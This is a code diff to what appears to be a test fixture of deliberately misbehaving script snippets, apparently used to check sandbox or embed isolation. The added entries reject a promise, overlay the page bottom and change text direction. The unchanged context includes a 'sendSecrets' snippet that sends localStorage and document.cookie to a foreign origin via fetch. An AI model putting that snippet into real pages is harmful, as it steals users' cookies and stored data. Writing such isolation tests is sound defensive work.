@@ -22,6 +22,7 @@ export const ACTS = {
   throwError: unlessCalm(`throw new Error('thrown on purpose');`),
   neverEnd: unlessCalm('return new Promise(function () {});'),
   rejectPromise: unlessCalm(`Promise.reject(new Error('rejected on purpose'));`),
+  rejectText: unlessCalm(`Promise.reject('rejected on purpose');`),
   sendSecrets: unlessCalm(`
     var secrets = '${FOREIGN_ORIGIN}/?' + encodeURIComponent(JSON.stringify(localStorage) + document.cookie);
     fetch(secrets, { mode: 'no-cors' }).catch(function () {});
@@ -42,6 +43,10 @@ export const ACTS = {
   leaveNodes: unlessCalm(`
     document.head.appendChild(document.createElement('style')).textContent = 'aside { color: red }';
     document.body.appendChild(document.createElement('aside')).textContent = 'forgotten';`),
+  /** The lowest part of the page can no longer be pressed. */
+  coverPage: unlessCalm(`
+    document.body.appendChild(document.createElement('aside')).style.cssText = 'position: fixed; inset: 90% 0 0';`),
+  turnPage: unlessCalm(`document.documentElement.dir = 'ltr';`),
 };
 
 export const inTimer = (act: string): string =>
